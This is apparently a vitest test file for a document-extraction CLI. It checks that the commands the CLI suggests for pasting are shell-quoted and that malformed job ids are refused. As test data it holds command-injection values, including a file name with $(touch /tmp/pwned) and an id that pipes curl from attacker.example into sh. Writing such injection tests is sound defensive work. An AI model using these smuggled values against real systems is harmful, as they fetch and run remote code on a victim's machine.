/**
 * Every command the CLI suggests to paste is quoted: a path, a glob or an id
 * it holds reads back, in a POSIX shell, as the one word it was, and nothing
 * after it runs. Attack 9 of the security review: an id or a file name
 * pasted unquoted into "finish: docextract collect …" became a command.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { JournalRecord } from '../../../src/batch/journal-records.js';
import type { CliContext } from '../../../src/cli/context.js';
import { commandLine } from '../../../src/cli/engine-access.js';
import { humanLine } from '../../../src/cli/outcome-lines.js';
import { cliErrorMessage, strayJobNotice, wordedForCli } from '../../../src/cli/outcome-words.js';
import { batchOutcome } from '../../../src/cli/run-batch.js';
import { renderCommands, renderJobs } from '../../../src/cli/run/jobs-render.js';
import type { ExtractionReport } from '../../../src/engine/batch-report.js';
import { listJobs } from '../../../src/engine/list-jobs.js';
import { isolatedEnv, runCli } from '../../helpers/run-cli.js';

/** A file name with a space, a quote, a command substitution and a newline that starts a command of its own. */
const HOSTILE_PATH = "in/Q3 O'Brien $(touch /tmp/pwned)\necho INJECTED.pdf";
const HOSTILE_ID = 'job_7f3a; curl -s http://attacker.example/i | sh #';
/** The same shape of id, harmless if a broken quoting ever lets it run: the test sees INJECTED in what bash printed. */
const PASTED_ID = 'job_7f3a; echo INJECTED #';
const RAW_CONTROL = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
const NO_PAINT = { red: (text: string) => text, green: (text: string) => text, yellow: (text: string) => text } as unknown as CliContext['ui']['paint'];

/** What bash runs for `line` pasted as a whole: the words of each command, as `set --` receives them (a comment takes nothing). */
function pastedIntoBash(line: string): string[] {
  const out = execFileSync('bash', ['-c', `set -- ${line}\nprintf '%s\\0' "$@"`], { encoding: 'utf8' });
  return out.split('\0').slice(0, -1);
}

/** `text` from `prefix` on, to its end: what a person selects to paste. */
function pasteFrom(text: string, prefix: string): string {
  const at = text.indexOf(prefix);
  expect(at, text).toBeGreaterThanOrEqual(0);
  return text.slice(at).trimEnd();
}

describe('suggested commands are quoted', () => {
  it('the command line `jobs` lists reads back as the arguments given: a path with a space, a quote, $(…) and a newline is one word', () => {
    const command = commandLine(['extract', HOSTILE_PATH, '--out', 'my results']);
    const text = renderCommands([{ pid: 7, command, since: '2026-11-26T14:05:00.000Z', role: 'host', queued: 1, inProgress: 0, jobSlots: 0 }]);
    expect(text).not.toMatch(/[\p{Cc}](?<!\n)/u); // the listing's own line ends aside, no raw control byte
    expect(text.split('\n')).toHaveLength(5); // a title, two lines, the blank one and the end: the name's newline is not one of them
    const line = text.split('\n')[1] as string;
    expect(pastedIntoBash(pasteFrom(line, 'docextract '))).toEqual(['docextract', 'extract', HOSTILE_PATH, '--out', 'my results']);
  });

  it('the advice after an interrupted run: the collect command and the file in its comment are quoted; nothing of the name runs', () => {
    let stderr = '';
    // The run's --profile and --rate-limit are repeated, quoted: a profile name is the user's, pasted as one word.
    const ctx = {
      ui: { error: (line: string) => (stderr += `${line}\n`) },
      clock: { now: () => Date.parse('2026-11-26T14:00:00.000Z') },
      suggestedFlags: () => ({ global: ['--profile', 'client b; echo INJECTED'], command: ['--rate-limit', '3/1s'] }),
    } as unknown as CliContext;
    const report = {
      interrupted: true,
      openJobs: [{ parentJobId: 'job_0a1b', file: HOSTILE_PATH, expiresAt: '2026-11-26T16:00:00.000Z' }],
    } as unknown as ExtractionReport;
    expect(
      batchOutcome(
        ctx,
        report,
        () => false,
        () => false,
      ),
    ).toBe('interrupted');
    const advice = pasteFrom(stderr, 'docextract --profile');
    expect(advice).not.toMatch(RAW_CONTROL);
    expect(pastedIntoBash(advice)).toEqual(['docextract', '--profile', 'client b; echo INJECTED', 'collect', 'job_0a1b', '--rate-limit', '3/1s']);
  });

  it('an outcome’s advice and a stray job’s notice paste back as `docextract collect <id>`, whatever the id holds', () => {
    for (const kind of ['pages_missing', 'job_open', 'job_kept_open']) {
      const advice = cliErrorMessage({
        code: 'interrupted',
        message: 'stopped',
        details: { kind, job_id: PASTED_ID, expires_at: '2026-11-26T16:00:00.000Z' },
      } as never);
      expect(pastedIntoBash(pasteFrom(advice, 'docextract collect'))).toEqual(['docextract', 'collect', PASTED_ID]);
    }
    const stray = strayJobNotice({ parentJobId: PASTED_ID, path: 'in/a.pdf' });
    expect(pastedIntoBash(pasteFrom(stray, 'docextract collect'))).toEqual(['docextract', 'collect', PASTED_ID]);
  });

  it("an outcome line that ends with a command pastes from the command to the line's end: its code is a shell comment (issue 52)", () => {
    for (const kind of ['pages_missing', 'job_open', 'job_kept_open']) {
      const outcome = wordedForCli({
        file: 'in/a.pdf',
        status: 'interrupted',
        error: { code: 'interrupted', message: 'stopped', details: { kind, job_id: 'job_a1f2', expires_at: '2026-11-26T16:00:00.000Z' } },
      } as never);
      const line = humanLine(outcome, NO_PAINT);
      expect(line).toMatch(/# interrupted$/);
      const pasted = pasteFrom(line, 'docextract collect');
      // `bash -n`: parsed, not run; "(interrupted)" after the command was a syntax error.
      expect(() => execFileSync('bash', ['-n', '-c', pasted], { stdio: 'pipe' }), pasted).not.toThrow();
      expect(pastedIntoBash(pasted)).toEqual(['docextract', 'collect', 'job_a1f2']);
    }
    // A message that names no command keeps its code in parentheses.
    const plain = humanLine({ file: 'in/b.pdf', status: 'failed', error: { code: 'file_too_large', message: 'too large' } } as never, NO_PAINT);
    expect(plain).toMatch(/too large \(file_too_large\)$/);
  });
});

describe('ids are data on the command line and in the journal', () => {
  it.each([
    ['collect', HOSTILE_ID],
    ['collect', '../../etc/x'],
    ['process', `job_${'a'.repeat(10_240)}`],
    ['process', 'job\n1'],
  ])('%s refuses a malformed id %#: usage error invalid_job_id, the id shown quoted and short, nothing sent', async (command, id) => {
    let asked = 0;
    const fetch: typeof globalThis.fetch = () => {
      asked += 1;
      return Promise.reject(new Error('nothing may be sent'));
    };
    const run = await runCli([command, id, '--json'], { env: isolatedEnv({ DOCEXTRACT_API_KEY: `sk_${'0'.repeat(32)}` }), fetch });
    expect(run.code, run.stderr).toBe(2);
    expect(run.stderr).toContain('invalid_job_id');
    expect(run.stderr).toContain('is not a job id');
    expect(run.stderr.length).toBeLessThan(1_000);
    expect(run.stderr).not.toContain(id.includes('\n') ? id : '\u0000');
    expect(asked).toBe(0);
  });

  it('a job whose id in the journal is not a job id is not listed as a job (no command is made of it); its upload is listed as unanswered', async () => {
    const now = Date.parse('2026-11-26T14:00:00.000Z');
    const record = (parentJobId: string, chunkId: string): JournalRecord[] => [
      { type: 'upload-intent', account: 'acc', at: now - 60_000, intentId: `i-${chunkId}`, sha256: 'ab', path: `/in/${chunkId}.pdf`, pages: 6 },
      {
        type: 'manifest',
        account: 'acc',
        at: now - 60_000,
        intentId: `i-${chunkId}`,
        sha256: 'ab',
        path: `/in/${chunkId}.pdf`,
        output: '/out/x.json',
        parentJobId,
        chunks: [{ jobId: chunkId, pages: '1-6' }],
        pages: 6,
        expiresAt: now + 3_600_000,
        model: null,
      },
    ];
    const stateDir = mkdtempSync(join(tmpdir(), 'docextract-jobs-'));
    const records = [...record('job_good', 'good'), ...record(HOSTILE_ID, 'bad-parent'), ...record('job_ok', 'bad chunk; id')];
    writeFileSync(join(stateDir, 'journal.ndjson'), records.map((line) => `${JSON.stringify(line)}\n`).join(''));
    const overview = await listJobs({ stateDir, nowMs: now, ttlMs: 2 * 3_600_000 });
    expect(overview.jobs.map((job) => [job.parent_job_id, job.resume])).toEqual([['job_good', 'docextract collect job_good']]);
    expect(overview.unanswered.map((upload) => upload.file).sort()).toEqual(['/in/bad chunk; id.pdf', '/in/bad-parent.pdf']);
    expect(renderJobs(overview, new Map(), { allAccounts: false })).not.toContain('curl');
  });
});
